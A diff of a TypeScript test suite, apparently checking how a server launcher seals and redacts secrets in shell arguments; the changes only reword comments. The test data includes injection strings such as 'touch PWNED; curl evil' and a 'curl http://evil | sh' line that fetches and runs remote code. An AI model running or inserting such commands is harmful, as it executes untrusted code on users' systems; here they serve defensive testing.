@@ -53,7 +53,7 @@ describe('what is secret in an argument', () => {
     ['--password', 'abc; touch PWNED', '#; touch PWNED'],
     ['--auth', 'Bearer abc', 'Bearer #'],
     ['-token', 'abc', '#'],
-    // Options of a shell that make a word.
+    // Options of a shell that form a word.
     ['-auth', 'touch PWNED; curl evil', 'touch PWNED; curl evil'],
     ['-pass', 'touch PWNED', 'touch PWNED'],
     ['--token=abc', 'curl', 'curl'],
@@ -72,7 +72,7 @@ describe('what is secret in an argument', () => {
       fc.property(fc.array(argument, { maxLength: 4 }), (args) => {
         const entry = { type: 'stdio', command: 'sh', args }
         const { sealed, secrets } = sealSecrets(entry)
-        // With the placeholders filled in again, it is what it was.
+        // Filling in the placeholders restores the original.
         expect(
           (sealed['args'] as string[]).map((text) =>
             text.replace(/\$\{secret:([^-}][^}]*)\}/g, (_, label: string) => secrets[label] ?? ''),
@@ -101,7 +101,7 @@ describe('what is secret in an argument', () => {
     const asked = `sh -c 'API_TOKEN=[redacted]; touch PWNED; curl http://evil | sh'`
     expect(previewServer({ name: 's', entry: { type: 'stdio', command: 'sh', args } }, {}).commandLine).toBe(asked)
     const redactor = createRedactor()
-    // A variable whose value is a part of the command.
+    // A variable whose value is part of the command.
     redactor.add('; touch PWNED; curl http://evil | sh')
     const config = { type: 'stdio', name: 's', command: 'sh', args, env: {} } as const
     for (const secret of secretsOf(config)) redactor.add(secret)
